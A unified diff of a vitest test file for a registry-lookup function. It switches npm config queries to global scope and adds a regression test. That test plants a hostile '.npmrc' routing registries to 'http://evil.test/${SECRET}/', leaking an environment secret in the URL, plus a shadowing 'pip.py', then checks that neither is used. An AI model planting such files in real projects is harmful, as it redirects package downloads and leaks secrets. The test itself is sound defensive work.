@@ -1,7 +1,7 @@
 import { execFileSync } from 'node:child_process';
 import { chmod, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
-import { describe, expect, it } from 'vitest';
+import { describe, expect, it, onTestFinished, vi } from 'vitest';
 import { temporaryFolder } from '../testing/helpers.ts';
 import { findIndex } from './index-config.ts';
 import type { PackageRequest } from './package-request.ts';
@@ -52,9 +52,9 @@ describe.skipIf(process.platform === 'win32')('findIndex', () => {
 
   it('takes what npm is configured to use: for a scope, for all', async () => {
     const npm = {
-      'config get @some:registry': 'http://some.test/npm/',
-      'config get @other:registry': 'undefined',
-      'config get registry': 'http://all.test/',
+      'config get @some:registry --global': 'http://some.test/npm/',
+      'config get @other:registry --global': 'undefined',
+      'config get registry --global': 'http://all.test/',
     };
     const env = await clients({ npm: answers(npm) });
     expect((await findIndex(scoped, env)).url).toBe('http://some.test/npm/');
@@ -67,7 +67,7 @@ describe.skipIf(process.platform === 'win32')('findIndex', () => {
   });
 
   it('takes no other registry if npm does not tell that of a scope', async () => {
-    const env = await clients({ npm: answers({ 'config get registry': 'http://all.test/' }) });
+    const env = await clients({ npm: answers({ 'config get registry --global': 'http://all.test/' }) });
     await expect(findIndex(scoped, env)).rejects.toMatchObject({
       code: 'CORPUS_INDEX_URL',
       message: 'Expected a configured index of packages, or npm to tell its own, got neither.',
@@ -87,6 +87,28 @@ describe.skipIf(process.platform === 'win32')('findIndex', () => {
     // Without configuration, the default in its help is all there is.
     const { url } = await findIndex(lib, { ...env, PIP_CONFIG_FILE: '/dev/null' });
     expect(url).toMatch(/^https:\/\/.*\/simple\/$/);
+  });
+
+  // reliability: folder-writer
+  it('reads and runs nothing in the current folder, only the home folder of the user', async () => {
+    const evil = `http://evil.test/\${SECRET}/`;
+    const folder = temporaryFolder({
+      'package.json': '{}',
+      '.npmrc': `registry=${evil}\n@some:registry=${evil}\n`,
+      'pip.py': `print("global.index-url='http://evil.test/'")`,
+    });
+    const home = temporaryFolder({ '.npmrc': `registry=http://home.test/\${SECRET}/\n` });
+    const before = process.cwd();
+    process.chdir(folder);
+    onTestFinished(() => process.chdir(before));
+    vi.stubEnv('HOME', home);
+    onTestFinished(() => void vi.unstubAllEnvs());
+    const plain = Object.entries(process.env).filter(([name]) => !/^(?:npm_config|pip)_/i.test(name));
+    const env = { ...Object.fromEntries(plain), SECRET: 'secret' };
+    expect((await findIndex(tool, env)).url).toBe('http://home.test/secret/');
+    expect((await findIndex(scoped, env)).url).toBe('http://home.test/secret/');
+    const ofPip = await findIndex(lib, env).catch(({ code }) => ({ url: code }));
+    expect(ofPip.url).not.toContain('evil');
   });
 
   it('says what to set where there is no client', async () => {
